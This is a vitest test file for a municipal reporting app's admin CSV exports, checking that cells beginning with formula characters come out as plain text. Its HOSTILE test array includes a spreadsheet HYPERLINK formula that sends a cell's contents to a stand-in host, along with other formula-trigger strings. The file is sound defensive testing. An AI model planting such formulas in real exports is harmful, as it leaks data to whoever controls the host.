import { admin as adminWords } from "../../functions/core/i18n/nb/admin";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { getReportTemplate } from "../../functions/core/rules";
import { linksCsv } from "../../functions/intake/admin/rounds";
import { exportCsv, type RoundStatus } from "../../functions/intake/admin/status";
import { ADMIN, call, counts, createRound, openLink, submitJson } from "../intake/helpers";

/**
 * Issue 12, item 3: every CSV the admin side writes (the payout export, the links for the mail merge,
 * API and page) goes through core/csv.ts. The payout export quoted separators but let a formula through;
 * the links CSV joined raw strings. A municipality's name comes from the register and a link from our
 * own origin, so these probes hand the writers hostile cells directly: what a renamed register entry
 * or a future text column would carry.
 */
const HOSTILE = ['=HYPERLINK("http://x.example/?leak="&B2,"klikk")', "+1+2", "-2+3", "@SUM(1+1)", "\tTab", "\rCR", "Linje\nto", 'Si "hei"', "a;b"];
/** The body as sent: Response.text() would drop the byte-order mark. */
const bytesAsText = async (res: Response) => new TextDecoder("utf-8", { fatal: true, ignoreBOM: true }).decode(await res.arrayBuffer());
const asText = (cell: string) => (/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell);

function parse(csv: string): string[][] {
  expect(csv.startsWith("\uFEFF")).toBe(true);
  expect(csv.endsWith("\r\n")).toBe(true);
  const { data, errors } = Papa.parse<string[]>(csv.slice(1), { delimiter: ";", newline: "\r\n", skipEmptyLines: true });
  expect(errors).toEqual([]);
  return data;
}

describe("the admin CSVs cannot carry a formula and keep every cell whole", () => {
  it("the payout export: a hostile name comes back as text in its own cell, one row per municipality", () => {
    const template = getReportTemplate("package-iii-2021")!;
    const lines = Object.fromEntries(template.lines.map((l) => [l.id, 0]));
    const values = Object.fromEntries(template.lines.map((l) => [l.id, { count: 0 }]));
    const status: RoundStatus & { template: typeof template } = {
      round: { id: "r", template: template.id, title: "t", opensAt: "2026-01-01T00:00:00.000Z", closesAt: "2026-02-01T00:00:00.000Z", total: { basis: "rates", frameNok: null } },
      template,
      rows: HOSTILE.map((name, i) => ({ code: String(1000 + i), name, status: "not-yet", version: 0, submittedAt: null, late: false, reference: null, lines, values, totalNok: 0 })),
      totals: lines,
      totalNok: 0,
      counts: { reported: 0, notYet: HOSTILE.length },
    };
    const rows = parse(exportCsv(status)).slice(1);
    expect(rows).toHaveLength(HOSTILE.length);
    expect(rows.map((r) => r[1])).toEqual(HOSTILE.map(asText));
    expect(rows.every((r) => r.length === rows[0]!.length)).toBe(true);
  });

  it("the links for the mail merge (API and admin page): a hostile name or URL comes back as text in its own cell", () => {
    const links = HOSTILE.map((name, i) => ({ code: String(1000 + i), name, url: i % 2 ? `https://rettsjekk.test/rapport/lenke/${i}` : name }));
    const rows = parse(linksCsv(links));
    expect(rows[0]).toEqual(["kommunenummer", "kommune", "lenke"]);
    expect(rows.slice(1)).toEqual(links.map((l) => [l.code, asText(l.name), asText(l.url)]));
  });

  it("a municipality's own text, written as a formula, leaves the payout export as text", async () => {
    const roundId = await createRound({ template: "vaccination-information-2022", municipalities: ["0301", "3201", "4601"] });
    const admin = { ...ADMIN, "Content-Type": "application/json" };
    const { links } = (await (await call(`/api/v1/admin/rounds/${roundId}/links`, { method: "POST", headers: admin })).json()) as { links: Array<{ code: string; url: string }> };
    const texts = [HOSTILE[0]!, "@SUM(1+1)", "-2+3"];
    for (const [i, link] of links.entries()) {
      const res = await submitJson(await openLink(new URL(link.url).pathname), `formula-${i}-key`, { values: { "amount-used": { nok: 1000 }, "use-of-funds": { text: texts[i] } }, expectedVersion: 0 });
      expect(res.status).toBe(201);
    }
    const rows = parse(await bytesAsText(await call(`/api/v1/admin/rounds/${roundId}/export.csv`, { headers: ADMIN })));
    const column = rows[0]!.indexOf("bruk_av_midlene_tekst");
    expect(column).toBeGreaterThan(0);
    expect(rows.slice(1).map((r) => r[column])).toEqual(texts.map(asText));
  });

  it("the API's links CSV and payout export parse to the same rows as their JSON", async () => {
    const roundId = await createRound();
    const admin = { ...ADMIN, "Content-Type": "application/json" };
    const rows = parse(await bytesAsText(await call(`/api/v1/admin/rounds/${roundId}/links`, { method: "POST", headers: { ...admin, Accept: "text/csv" } })));
    expect(rows[0]).toEqual(["kommunenummer", "kommune", "lenke"]);
    expect(rows.slice(1).map((r) => r.slice(0, 2))).toEqual([["0301", "Oslo - Oslove"], ["3201", "Bærum"], ["4601", "Bergen"]]);
    await submitJson(await openLink(new URL(rows[1]![2]!).pathname), "csv-injection-1", { values: counts(2), expectedVersion: 0 });
    const exported = parse(await bytesAsText(await call(`/api/v1/admin/rounds/${roundId}/export.csv`, { headers: ADMIN })));
    const json = (await (await call(`/api/v1/admin/rounds/${roundId}/export.json`, { headers: ADMIN })).json()) as { rows: Array<{ code: string; name: string; status: string; totalNok: number }> };
    expect(exported.slice(1).map((r) => [r[0], r[1], r[2], Number(r.at(-1))])).toEqual(json.rows.map((r) => [r.code, r.name, adminWords.statuses[r.status as keyof typeof adminWords.statuses], r.totalNok]));
  });
});
